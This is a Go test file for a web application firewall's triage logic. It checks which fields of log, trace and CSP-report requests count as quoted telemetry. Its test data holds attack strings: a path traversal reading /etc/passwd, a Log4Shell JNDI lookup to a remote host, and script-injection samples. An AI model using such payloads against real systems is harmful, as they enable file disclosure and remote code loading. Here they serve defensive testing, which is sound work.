package triage

import (
	"testing"

	"github.com/modsecurity-for-anylog/msa/mapping"
)

// Logs, traces, errors and reports that are shipped quote what somebody else has sent; the rest of such a request does not.
func TestTelemetry(t *testing.T) {
	const attack = "GET /?q=../../etc/passwd HTTP/1.1"
	for _, c := range []struct {
		uri, kind, variable, value string
		want                       bool
	}{
		{"/loki/api/v1/push", "application/json", "ARGS:json.streams.0.values.3.1", attack, true},
		{"/loki/api/v1/push", "application/json", "ARGS:json.streams.0.stream.app", attack, false},
		{"/loki/api/v1/push", "application/json", "ARGS:tenant", attack, false},
		{"/loki/api/v1/query", "application/json", "ARGS:json.streams.0.values.3.1", attack, false},
		{"/x/../loki/api/v1/push", "application/json", "ARGS:json.streams.0.values.3.1", attack, false},
		{"/v1/logs", "application/json", "ARGS:json.resourceLogs.0.scopeLogs.0.logRecords.1.body.stringValue", attack, true},
		{"/otlp/v1/traces", "application/json", "ARGS:json.resourceSpans.0.scopeSpans.0.spans.0.attributes.1.value.stringValue", attack, true},
		{"/services/collector/event", "application/json", "ARGS:json.event.line", attack, true},
		{"/api/v2/logs", "application/json", "ARGS:json.0.message", attack, true},
		{"/api/v2/logs", "application/json", "ARGS:json.0.service", attack, false},
		{"/api/9/store/", "application/json", "ARGS:json.exception.values.0.value", attack, true},
		{"/api/9/store/", "application/json", "ARGS:json.extra.cmd.2", attack, true},
		{"/api/9/store/", "application/json", "ARGS:json.release", attack, false},
		{"/_bulk", "application/x-ndjson", "ARGS:json.1.message", attack, true},
		{"/_bulk", "application/x-ndjson", "ARGS:json.1.message", "${jndi:ldap://198.51.100.7/a}", false}, // who stores it may look it up
		{"/_bulk", "application/x-ndjson", "ARGS:json.0.index._index", attack, false},
		{"/report", "application/csp-report", "ARGS:json.csp-report.script-sample", "alert(1)", true},
		{"/report", "application/reports+json; charset=utf-8", "ARGS:json.0.body.sample", "eval(a)", true},
		{"/report", "application/csp-report", "ARGS:json.csp-report.document-uri", "https://shop.example/?q=<script>", false},
		{"/report", "application/json", "ARGS:json.csp-report.script-sample", "alert(1)", false},
	} {
		tx := &mapping.Transaction{Method: "POST", URI: c.uri, RequestHeaders: []mapping.Header{{Name: "Content-Type", Value: c.kind}}}
		if got := isTelemetry(tx, c.variable, c.value); got != c.want {
			t.Errorf("%s %s: %q: %v", c.uri, c.variable, c.value, got)
		}
	}
}
